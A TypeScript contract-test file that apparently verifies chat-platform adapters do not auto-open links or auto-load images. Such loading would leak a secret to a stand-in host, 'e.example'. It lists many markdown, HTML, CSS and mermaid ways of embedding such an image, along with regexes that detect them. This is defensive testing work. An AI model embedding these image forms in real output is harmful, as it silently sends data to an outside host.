import { expect } from 'vitest';
import type { OutboundPart } from '../../../src/channels/adapter.js';
import type { ContractCase } from '../contract.js';
import { type PlatformCall, requestOf, type Stage, textPart } from './stage.js';

/** A host that nobody may be made to ask. */
const AT = 'https://e.example/c.png?secret=1';
const LINK = `look at ${AT} now`;

/** Every way to write an image. */
const IMAGES = [
  `![a](${AT})`,
  `![](<${AT}> "t")`,
  `![a][b] and ![b][] and ![b]\n\n[b]: ${AT}`,
  `[![a](${AT})](https://ci.example)`,
  `!![a\nb](${AT})`,
  `> - ![a](${AT})`,
  `| ![a](${AT}) | b |\n|---|---|\n| c | d |`,
  `<img src="${AT}" alt="a">`,
  `<IMG\nsrcset='${AT} 2x'>`,
  `<picture><source srcset="${AT}"></picture>`,
  `<video poster="${AT}" src="${AT}"></video>`,
  `<table background="${AT}"><tr><td style="background:url(${AT})">a</td></tr></table>`,
  `    \`\`\`\n![a](${AT})\n    \`\`\``,
  `\`\`\`mermaid\nflowchart\nA@{ img: "${AT}" }\n\`\`\``,
];

/** Fields by which a platform loads what stands behind an address. */
const LOADING =
  /^(?:image|images|imageUrl|image_url|thumbnail|thumb_url|icon_url|iconUrl|backgroundImage|photo|video|media|poster|contentUrl|link|path)$/;

const HIDDEN =
  /!\[[^\]]*\]\s?(?:\(<?[^\s)]*e\.example|[[:])|!\[b\]|<(?:img|source|video)\b|<[a-z][^>‹]*(?:background|style|poster|srcset)=|```mermaid/i;

/** How a platform would load something by showing this. */
function loads(value: unknown, name = ''): string[] {
  if (typeof value === 'string') {
    // Fields of a form hold JSON as text.
    if (/^[[{]/.test(value)) return loads(parsed(value), name);
    if (LOADING.test(name) && value.includes('e.example')) return [`${name}: ${value}`];
    return HIDDEN.test(value) ? [value] : [];
  }
  if (typeof value !== 'object' || value === null) return [];
  const { type, url }: { type?: unknown; url?: unknown } = value;
  const shown = /^(?:image|video|media)$/i.test(String(type)) && String(url).includes('e.example');
  const inner = Object.entries(value).flatMap(([key, one]) => loads(one, key));
  return shown ? [JSON.stringify(value), ...inner] : inner;
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return { text: ` ${text}` };
  }
}

/** What was said to the platform since `before`, of what holds the address. */
const said = (stage: Stage, before: number): PlatformCall[] =>
  stage
    .calls()
    .slice(before)
    .filter(({ fields }) => JSON.stringify(fields ?? null).includes('e.example'));

/** Says it, and tells how the platform would open or load something because of it. */
async function leaks(stage: Stage, part: OutboundPart): Promise<string[]> {
  const before = stage.calls().length;
  await stage.adapter.deliver(requestOf(stage.direct, part));
  const calls = said(stage, before);
  return calls.flatMap((call) => [
    ...loads(call.fields),
    ...(stage.opensLinks?.(call) ? [`${call.name} opens links: ${JSON.stringify(call.fields)}`] : []),
  ]);
}

const question = (text: string): OutboundPart => ({
  ...{ type: 'question', questionId: 'q-1', title: /^[^\n`]+$/.test(text) ? text : 'Look', question: text },
  options: [
    { label: 'Yes', value: 'yes' },
    { label: 'No', value: 'no' },
  ],
});

const card = (text: string): OutboundPart => ({
  type: 'card',
  card: {
    ...{ title: 'Look', subtitle: text, text, imageUrl: AT },
    fields: [
      { label: '![a', value: `](${AT})` },
      { label: text.slice(0, 200), value: text },
    ],
    links: [{ label: 'Open', url: AT }],
  },
  fallbackText: text,
});

/** A platform asks an address with nobody clicking where it shows what stands behind: so a secret would get out. */
export const previewCases = {
  async 'no link is opened by the platform, be it in a text, an edit, a question or a card'(stage, host) {
    await stage.adapter.start(host);
    expect(await leaks(stage, textPart(LINK))).toEqual([]);
    expect(await leaks(stage, question(LINK))).toEqual([]);
    expect(await leaks(stage, card(LINK))).toEqual([]);
    expect(await leaks(stage, { type: 'card', card: { odd: true }, fallbackText: LINK })).toEqual([]);
    if (stage.adapter.capabilities.files) {
      const files = [{ name: 'a.png', mimeType: 'image/png', data: Buffer.from('a') }];
      expect(await leaks(stage, { type: 'text', text: LINK, files, replyTo: null })).toEqual([]);
    }
    if (!stage.adapter.capabilities.edits) return;
    const { messageIds } = await stage.adapter.deliver(requestOf(stage.direct, textPart('draft')));
    expect(await leaks(stage, { type: 'edit', messageId: messageIds[0] ?? '', text: LINK })).toEqual([]);
  },

  async 'no image is loaded by the platform, however it is written'(stage, host) {
    await stage.adapter.start(host);
    const { messageIds } = await stage.adapter.deliver(requestOf(stage.direct, textPart('draft')));
    for (const image of IMAGES) {
      expect(await leaks(stage, textPart(image))).toEqual([]);
      expect(await leaks(stage, question(image))).toEqual([]);
      expect(await leaks(stage, card(image))).toEqual([]);
      if (!stage.adapter.capabilities.edits) continue;
      expect(await leaks(stage, { type: 'edit', messageId: messageIds[0] ?? '', text: image })).toEqual([]);
    }
  },
} satisfies Record<string, ContractCase>;
